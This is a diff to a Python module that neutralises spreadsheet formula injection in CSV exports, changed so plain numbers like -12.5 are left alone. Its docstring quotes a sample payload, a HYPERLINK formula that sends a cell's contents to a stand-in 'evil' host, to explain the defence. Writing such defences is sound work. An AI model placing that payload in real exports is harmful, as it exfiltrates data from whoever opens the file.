@@ -4,25 +4,30 @@ Spreadsheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
 a tab or carriage return before them) as a formula: a dataset name such as
 ``=HYPERLINK("http://evil/?"&A1)`` from a lineage producer would run on the auditor's
 machine. Such a cell is written with a leading apostrophe, which spreadsheets show as
-text and do not evaluate. The CSV import strips that apostrophe again, so an export
-imported back changes nothing.
+text and do not evaluate. A plain number such as ``-12.5`` is left as it is: it is data,
+not a formula. The CSV import strips that apostrophe again, so an export imported back
+changes nothing.
 """
 
 from __future__ import annotations
 
 import csv
+import re
 from collections.abc import Iterable, Iterator
 from typing import Any
 
 # The characters OWASP lists, plus their full-width forms, which some spreadsheets fold.
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 GUARD = "'"
+_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$")
 
 
 def cell_neutralize(value: Any) -> str:
     """The cell as text a spreadsheet shows and never evaluates."""
     text = "" if value is None else str(value)
-    return GUARD + text if text.startswith(FORMULA_STARTS) else text
+    if text.startswith(FORMULA_STARTS) and not _NUMBER.match(text):
+        return GUARD + text
+    return text
 
 
 def cell_restore(text: str) -> str:
